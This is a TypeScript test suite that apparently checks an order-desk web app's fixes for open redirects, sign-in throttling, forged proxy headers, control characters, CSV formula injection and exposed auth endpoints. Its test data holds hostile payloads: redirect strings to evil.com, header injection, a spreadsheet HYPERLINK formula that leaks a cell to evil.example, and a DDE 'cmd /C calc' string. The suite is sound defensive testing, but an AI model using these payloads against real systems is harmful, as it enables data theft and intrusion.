import { apiKey } from '@better-auth/api-key';
import { parse } from 'csv-parse/sync';
import { betterAuth } from 'better-auth';
import { admin, genericOAuth } from 'better-auth/plugins';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, isolatedDatabaseEnv, signInAttempt, signInCookie, startApp, type App } from '../support/stack';
import { startOidcProvider } from '../support/oidc-provider';
import { startSimulator, type Simulator } from '../../wechat-sim/server';
import { api, createUser, msUntil, ownServerEnv, simStats, userIdOf } from './helpers';

/**
 * The holes of issue 8, each tried as an attacker would, against servers of their own with
 * databases of their own: several tests block 127.0.0.1 or fill the audit trail on purpose.
 */
let sim: Simulator;
const apps: App[] = [];

async function server(extra: Record<string, string> = {}, database?: Record<string, string>): Promise<App> {
  const app = await startApp({ env: await ownServerEnv(sim.url, extra, database), quiet: true });
  apps.push(app);
  return app;
}

/**
 * One server for the tests that only read or are refused: none of them blocks 127.0.0.1, fills a
 * table or changes an account, so they need no server of their own (each start is seconds).
 */
let quiet: Promise<App> | undefined;
const quietServer = () => (quiet ??= server());

beforeAll(async () => {
  sim = await startSimulator();
});
afterAll(async () => {
  for (const app of apps) await app.stop();
  await sim?.close();
});

const post = (app: App, path: string, body: string, headers: Record<string, string> = {}) =>
  fetch(`${app.url}${path}`, { method: 'POST', headers: { origin: app.url, 'content-type': 'application/json', ...headers }, body, redirect: 'manual' });

type AuditCsvRow = Record<string, string>;
async function auditRows(app: App, adminCookie: string, filter: Record<string, string> = {}): Promise<AuditCsvRow[]> {
  const response = await fetch(`${app.url}/api/audit.csv?${new URLSearchParams(filter)}`, { headers: { cookie: adminCookie } });
  expect(response.status).toBe(200);
  return parse((await response.text()).replace(/^\uFEFF/, ''), { columns: true }) as AuditCsvRow[];
}

describe('1. return-to after sign-in', () => {
  it('sends a signed-in visitor of /login?next=<hostile> to a page of this site, never elsewhere', async () => {
    const app = await quietServer();
    const cookie = await signInCookie(app.url, 'support@demo.local');
    for (const next of ['/%09/evil.com', '/%5Cevil.com', '//evil.com', '/%2F%2Fevil.com', 'https:evil.com', '/%0d%0aLocation:%20https://evil.com', 'javascript:alert(1)', `/${'a'.repeat(5000)}`]) {
      const response = await fetch(`${app.url}/login?next=${next}`, { headers: { cookie }, redirect: 'manual' });
      expect([303, 307, 308], next).toContain(response.status);
      const location = new URL(response.headers.get('location')!, app.url);
      expect(location.origin, next).toBe(app.url);
      expect(location.pathname, next).toBe('/');
    }
    // An ordinary path still comes back.
    const ordinary = await fetch(`${app.url}/login?next=${encodeURIComponent('/orders/shop/522346')}`, { headers: { cookie }, redirect: 'manual' });
    expect(new URL(ordinary.headers.get('location')!, app.url).pathname).toBe('/orders/shop/522346');
  });
});

describe('2, 3, 7. sign-in throttle, client address and anonymous writes', () => {
  it('lets no more than 5 of 50 parallel wrong passwords for one account reach the password check', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const { email } = await createUser(app.url, adminCookie);
    const answers = await Promise.all(Array.from({ length: 50 }, (_, i) => signInAttempt(app.url, email, `wrong-password-${i}`)));
    const statuses = answers.map((r) => r.status);
    expect(statuses.filter((s) => s === 401).length).toBeLessThanOrEqual(5);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(45);
    expect(statuses.every((s) => s === 401 || s === 429)).toBe(true);
    // The right password is refused too while the account is throttled.
    expect((await signInAttempt(app.url, email, 'orderdesk-demo')).status).toBe(429);
    // The trail holds the failures that reached the check and the first refusal of each counter
    // (the account's and the address's), not 50 rows.
    const failed = await auditRows(app, adminCookie, { user: email, action: 'auth.sign-in-failed' });
    expect(failed.length).toBeLessThanOrEqual(7);
    // Successful sign-ins give their point back: ten in a row all succeed.
    for (let i = 0; i < 10; i++) expect((await signInAttempt(app.url, 'finance@demo.local', 'orderdesk-demo')).status).toBe(200);
  });

  it('ignores forged X-Forwarded-For and X-Real-IP: the per-address limit holds and the trail records the real address', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const statuses: number[] = [];
    const emails: string[] = [];
    for (let i = 0; i < 40; i++) {
      const email = `nobody-${i}-${Date.now()}@example.com`;
      emails.push(email);
      const response = await post(app, '/api/auth/sign-in/email', JSON.stringify({ email, password: 'wrong-password' }), {
        'x-forwarded-for': `203.0.113.${i}`,
        'x-real-ip': `198.51.100.${i}`,
      });
      statuses.push(response.status);
    }
    expect(statuses.slice(0, 20)).toEqual(Array(20).fill(401));
    expect(statuses.slice(20)).toEqual(Array(20).fill(429));

    const rows = (await auditRows(app, adminCookie, { action: 'auth.sign-in-failed' })).filter((r) => r.user_email!.startsWith('nobody-'));
    expect(new Set(rows.map((r) => r.ip))).toEqual(new Set(['127.0.0.1']));
    // Anonymous writes grow the trail no faster than the throttle: 20 failures and one refusal.
    expect(rows.length).toBe(21);
  });

  it('takes the address the trusted proxy saw when ORDER_DESK_TRUSTED_PROXY_HOPS is 1', async () => {
    const app = await server({ ORDER_DESK_TRUSTED_PROXY_HOPS: '1' });
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const email = `behind-proxy-${Date.now()}@example.com`;
    // What a client made up comes first; the proxy appends the address it saw.
    await post(app, '/api/auth/sign-in/email', JSON.stringify({ email, password: 'wrong-password' }), { 'x-forwarded-for': '10.9.9.9, 198.51.100.77' });
    const [row] = await auditRows(app, adminCookie, { user: email });
    expect(row!.ip).toBe('198.51.100.77');
  });

  it('caps what a failed sign-in stores', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const email = `${'x'.repeat(20_000)}@example.com`;
    const response = await post(app, '/api/auth/sign-in/email', JSON.stringify({ email, password: 'wrong-password' }), { 'user-agent': 'U'.repeat(8_000) });
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    const rows = (await auditRows(app, adminCookie, { action: 'auth.sign-in-failed' })).filter((r) => r.user_email!.startsWith('xxx'));
    expect(rows).toHaveLength(1);
    expect(rows[0]!.user_email!.length).toBeLessThanOrEqual(254);
    expect(rows[0]!.user_agent!.length).toBeLessThanOrEqual(512);
  });
});

describe('4. control characters in input', () => {
  it('answers a NUL byte in an order id with 400, calls WeChat for none, and audits the attempt', async () => {
    const app = await quietServer();
    const cookie = await signInCookie(app.url, 'support@demo.local');
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const before = await simStats(sim.url);
    for (const path of ['/api/orders/shop/52%002346', '/api/orders/service-provider/DD29%0081741311549200000', '/api/orders/shop/%0d%0a']) {
      const response = await api(path, app.url, cookie);
      expect(response.status, path).toBe(400);
      expect(response.body.error, path).toMatchObject({ code: 'invalid_id' });
    }
    expect((await simStats(sim.url)).orderCalls).toEqual(before.orderCalls);
    const ids = (await auditRows(app, adminCookie, { user: 'support@demo.local', action: 'order.lookup' })).map((r) => r.order_id);
    expect(ids).toEqual(expect.arrayContaining(['52\\u00002346', 'DD29\\u000081741311549200000', '\\u000d\\u000a']));
  });

  it('refuses control characters in the audit filters with 400, on the CSV and the page', async () => {
    const app = await quietServer();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    for (const query of ['orderId=52%002346', 'user=a%00b', 'action=%00']) {
      const csv = await api(`/api/audit.csv?${query}`, app.url, adminCookie);
      expect(csv.status, query).toBe(400);
      expect(csv.body.error, query).toMatchObject({ code: 'invalid_request' });
      const page = await fetch(`${app.url}/admin/audit?${query}`, { headers: { cookie: adminCookie } });
      expect(page.status, query).toBeLessThan(500);
    }
  });
});

describe('5. formulas in CSV exports', () => {
  it('writes a formula-looking email or user agent as text', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await post(app, '/api/auth/sign-in/email', JSON.stringify({ email: `${hostile}@example.com`, password: 'wrong-password' }), { 'user-agent': '@SUM(1+1)*cmd|" /C calc"!A0' });
    const rows = await auditRows(app, adminCookie, { action: 'auth.sign-in-failed' });
    const row = rows.find((r) => r.user_email!.includes('HYPERLINK'));
    expect(row).toBeDefined();
    expect(row!.user_email).toBe(`'${hostile}@example.com`);
    expect(row!.user_agent).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, JSON.stringify(r)).not.toMatch(/^[=+@\t\r]/);
  });

  it('quotes every cell, so a list separator of ";" cannot start a new cell with a formula', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    await post(app, '/api/auth/sign-in/email', JSON.stringify({ email: 'a;=1+1@example.com', password: 'wrong-password' }), { 'user-agent': 'x;=WEBSERVICE(CONCAT(CHAR(104);CHAR(116)))' });
    const csv = await (await fetch(`${app.url}/api/audit.csv?action=auth.sign-in-failed`, { headers: { cookie: adminCookie } })).text();
    // Excel splits an unquoted cell at ";" where that is the list separator; a quoted one stays whole.
    expect(csv).toContain('"x;=WEBSERVICE(CONCAT(CHAR(104);CHAR(116)))"');
    expect(csv).toContain('"a;=1+1@example.com"');
    // Every non-empty cell of every line is quoted.
    for (const line of csv.replace(/^\uFEFF/, '').trim().split('\r\n').join('\n').split('\n')) {
      expect(line).toMatch(/^("([^"]|"")*")?(,("([^"]|"")*")?)*$/);
    }
  });
});

/** Every endpoint better-auth mounts with the plugins Order Desk uses, as it lists them. */
function betterAuthEndpoints(): Array<{ method: string; path: string }> {
  const listing = betterAuth({
    secret: 'endpoint-listing-only-0123456789abcdef',
    baseURL: 'http://127.0.0.1:1',
    logger: { disabled: true },
    emailAndPassword: { enabled: true },
    plugins: [admin(), apiKey(), genericOAuth({ config: [{ providerId: 'oidc', clientId: 'a', clientSecret: 'b', authorizationUrl: 'http://127.0.0.1:1/a', tokenUrl: 'http://127.0.0.1:1/t' }] })],
  });
  const endpoints: Array<{ method: string; path: string }> = [];
  for (const endpoint of Object.values(listing.api as Record<string, { path?: string; options?: { method?: string | string[] } }>)) {
    if (!endpoint?.path) continue;
    const methods = [endpoint.options?.method ?? 'GET'].flat();
    for (const method of methods) endpoints.push({ method: method === '*' ? 'POST' : method, path: endpoint.path.replace(/:(\w+)/g, (_, name: string) => (name === 'id' ? 'oidc' : 'x')) });
  }
  return endpoints;
}

describe('6. better-auth endpoints', () => {
  it('refuses every /api/auth endpoint the product does not offer, even to an admin; the one it offers is audited', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const endpoints = betterAuthEndpoints();
    expect(endpoints.length).toBeGreaterThan(40);
    expect(endpoints.map((e) => e.path)).toEqual(expect.arrayContaining(['/admin/impersonate-user', '/admin/set-role', '/admin/remove-user', '/api-key/create', '/api-key/list', '/sign-in/email']));
    const before = await auditRows(app, adminCookie);
    const opened: string[] = [];
    for (const { method, path } of endpoints) {
      if (path === '/sign-in/email') continue;
      const response = await fetch(`${app.url}/api/auth${path}`, {
        method,
        redirect: 'manual',
        headers: { cookie: adminCookie, origin: app.url, ...(method === 'POST' ? { 'content-type': 'application/json' } : {}) },
        body: method === 'POST' ? JSON.stringify({ userId: 'x', role: 'admin', newPassword: 'orderdesk-demo-2', email: 'support@demo.local', password: 'x' }) : undefined,
      });
      if (response.status !== 404) opened.push(`${method} ${path} → ${response.status}`);
    }
    expect(opened).toEqual([]);
    // Nothing was changed, so nothing new in the trail; the admin is still signed in.
    expect((await auditRows(app, adminCookie)).length).toBe(before.length);
    // The offered endpoint writes to the trail.
    await signInAttempt(app.url, 'support@demo.local', 'wrong-password');
    expect((await auditRows(app, adminCookie, { action: 'auth.sign-in-failed', user: 'support@demo.local' })).length).toBe(1);
  });
});

describe('6, 7. single sign-on starts', () => {
  it('takes only a provider and a return path on this site, bounded, and limits starts per address', async () => {
    const appPort = await freePort();
    const oidc = await startOidcProvider({ port: await freePort(), clientId: 'order-desk', clientSecret: 'order-desk-test-client-secret', redirectUri: `http://127.0.0.1:${appPort}/api/auth/callback/oidc` });
    try {
      const app = await startApp({
        port: appPort,
        quiet: true,
        env: await ownServerEnv(sim.url, { ORDER_DESK_OIDC_ISSUER: oidc.issuer, ORDER_DESK_OIDC_CLIENT_ID: 'order-desk', ORDER_DESK_OIDC_CLIENT_SECRET: 'order-desk-test-client-secret' }),
      });
      apps.push(app);
      const start = (body: Record<string, unknown>) => post(app, '/api/auth/sign-in/social', JSON.stringify(body));
      // What the sign-in button sends works.
      const ok = await start({ provider: 'oidc', callbackURL: '/orders/shop/522346' });
      expect(ok.status).toBe(200);
      expect(((await ok.json()) as { url: string }).url).toContain(oidc.issuer);
      // Anything else is refused before better-auth stores it.
      for (const body of [
        { provider: 'oidc', callbackURL: `/${'a'.repeat(300_000)}` },
        { provider: 'oidc', callbackURL: '/', errorCallbackURL: `/${'a'.repeat(1000)}` },
        { provider: 'oidc', callbackURL: '/', newUserCallbackURL: '/x' },
        { provider: 'oidc', callbackURL: '/.//evil.com' },
        { provider: 'oidc', callbackURL: '/%09/evil.com' },
        { provider: 'oidc', callbackURL: '/', scopes: ['admin'] },
        { provider: 'other', callbackURL: '/' },
      ]) {
        const response = await start(body);
        expect(response.status, JSON.stringify(body).slice(0, 80)).toBe(400);
      }
      // Starts are limited per address, like failed sign-ins (30 per 15 minutes).
      const statuses: number[] = [];
      for (let i = 0; i < 40; i++) statuses.push((await start({ provider: 'oidc', callbackURL: '/' })).status);
      expect(statuses.filter((st) => st === 429).length).toBeGreaterThan(0);
      expect(statuses.filter((st) => st === 200).length).toBeLessThanOrEqual(30);
    } finally {
      await oidc.close();
    }
  });
});

describe('9. malformed requests', () => {
  it('answers malformed or wrong-shaped JSON to /api/admin/users with 400 and the error contract', async () => {
    const app = await quietServer();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    for (const body of ['{', 'null', '[]', '"create"', '{"intent":"create"}', '{"intent":"role","userId":"\\u0000","role":"admin"}', 'x'.repeat(2_000_000)]) {
      const response = await post(app, '/api/admin/users', body, { cookie: adminCookie });
      expect(response.status, body.slice(0, 40)).toBe(400);
      const json = (await response.json()) as { error: { code: string; message: string } };
      expect(json.error.code, body.slice(0, 40)).toBe('invalid_request');
      expect(json.error.message.length).toBeGreaterThan(0);
    }
  });
});

describe('9. refusals from better-auth', () => {
  it('answers every change better-auth refuses with 4xx and the error contract, and a form with its message', async () => {
    const app = await server();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const adminId = await userIdOf(app.url, adminCookie, 'admin@demo.local');
    for (const change of [
      { intent: 'role', userId: 'nonexistent', role: 'admin' },
      { intent: 'disable', userId: 'nonexistent' },
      { intent: 'enable', userId: 'nonexistent' },
      { intent: 'password', userId: 'nonexistent', password: 'orderdesk-demo-2' },
      { intent: 'disable', userId: adminId },
      { intent: 'create', name: 'Again', email: 'support@demo.local', role: 'support', password: 'orderdesk-demo-2' },
      { intent: 'password', userId: adminId, password: 'p'.repeat(150) },
    ]) {
      const response = await post(app, '/api/admin/users', JSON.stringify(change), { cookie: adminCookie });
      expect(response.status, JSON.stringify(change).slice(0, 80)).toBeGreaterThanOrEqual(400);
      expect(response.status, JSON.stringify(change).slice(0, 80)).toBeLessThan(500);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe('invalid_request');
    }
    const form = await fetch(`${app.url}/api/admin/users`, {
      method: 'POST',
      headers: { cookie: adminCookie, origin: app.url, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ intent: 'create', name: 'Again', email: 'support@demo.local', role: 'support', password: 'orderdesk-demo-2' }),
      redirect: 'manual',
    });
    expect(form.status).toBe(303);
    expect(form.headers.get('location')).toBe('/admin/users?error=exists');
  });
});

describe('10. the users page', () => {
  it('shows only messages the product wrote, never ?error= text as given', async () => {
    const app = await quietServer();
    const adminCookie = await signInCookie(app.url, 'admin@demo.local');
    const html = await (await fetch(`${app.url}/admin/users?error=${encodeURIComponent('Your account is locked, call +1 555 0100')}`, { headers: { cookie: adminCookie } })).text();
    expect(html).not.toContain('call +1 555 0100');
    // A real refusal still explains itself: a password that is too short.
    const refused = await fetch(`${app.url}/api/admin/users`, {
      method: 'POST',
      headers: { cookie: adminCookie, origin: app.url, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ intent: 'password', userId: 'someone', password: 'short' }),
      redirect: 'manual',
    });
    expect(refused.status).toBe(303);
    const page = await (await fetch(new URL(refused.headers.get('location')!, app.url), { headers: { cookie: adminCookie } })).text();
    expect(page).toMatch(/Check the form|请检查/);
  });
});

describe('11. disabling a user or changing their role', () => {
  it('ends their open sessions at once on the server that made the change, and within 1 s on every other sharing the database', async () => {
    const database = await isolatedDatabaseEnv();
    const first = await server({}, database);
    // PGlite allows one server per data directory; on PostgreSQL a second server shares it.
    const second = process.env.DATABASE_URL ? await server({}, database) : first;
    const adminCookie = await signInCookie(second.url, 'admin@demo.local');
    for (const intent of ['role', 'disable'] as const) {
      const user = await createUser(second.url, adminCookie);
      const cookie = await signInCookie(first.url, user.email);
      const lookup = async (app: App) => (await api('/api/orders/shop/522346', app.url, cookie)).status;
      // Both servers have just checked the session, so both remember it.
      for (const app of new Set([first, second])) expect(await lookup(app)).toBe(200);
      const change = await post(second, '/api/admin/users', JSON.stringify(intent === 'role' ? { intent, userId: user.id, role: 'finance' } : { intent, userId: user.id }), { cookie: adminCookie });
      expect(change.status).toBe(200);
      expect(await lookup(second), intent).toBe(401);
      expect(await msUntil(401, () => lookup(first)), intent).toBeLessThanOrEqual(1000);
    }
  });
});
